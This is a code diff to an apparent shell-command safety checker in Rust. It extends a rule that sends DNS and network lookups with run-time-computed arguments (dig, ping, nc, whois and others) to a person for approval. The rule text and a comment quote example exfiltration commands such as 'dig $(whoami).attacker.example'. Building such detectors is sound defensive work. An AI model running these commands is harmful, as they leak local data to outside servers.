@@ -20,7 +20,7 @@ pub const EXFILTRATION: Rule = Rule {
 pub const EXFILTRATION_ASK: Rule = Rule {
     id: "exfiltration-computed",
     decision: Decision::Ask,
-    summary: "a computed value carried out in a name lookup (`dig $(whoami).example.com`, `ping $(hostname).x`)",
+    summary: "a computed value carried out in a name lookup (`dig $(whoami).example.com`, `ping \"$h.x\"`, `nc -z \"$d\" 53`)",
 };
 pub const REMOTE_SHELL: Rule = Rule {
     id: "remote-shell",
@@ -145,10 +145,9 @@ pub(super) fn judge(j: &mut Judge, a: &Analysis, i: usize, inv: &Invocation) {
         "docker" | "podman" | "nerdctl" => container(j, inv),
         // A name looked up carries what was computed into it to whoever serves the domain
         // (`dig $(whoami).attacker.example`): a lookup of a computed name is asked about.
-        "dig" | "host" | "nslookup" | "drill" | "ping" | "ping6" | "getent" | "traceroute"
-            if inv.args.iter().any(|w| {
-                matches!(&w.arg, Arg::Dyn { raw, programs } if !programs.is_empty() || raw.contains('.'))
-            }) =>
+        "dig" | "host" | "nslookup" | "drill" | "ping" | "ping6" | "traceroute" | "tracepath"
+        | "mtr" | "whois" | "resolvectl" | "nc" | "ncat" | "netcat"
+            if inv.args.iter().any(|w| matches!(w.arg, Arg::Dyn { .. })) =>
         {
             j.hit_at(&EXFILTRATION_ASK, &inv.origin, format!("`{shown}` looks up a name computed at run time, which sends what it holds to that domain's servers; a person should run it"));
         }
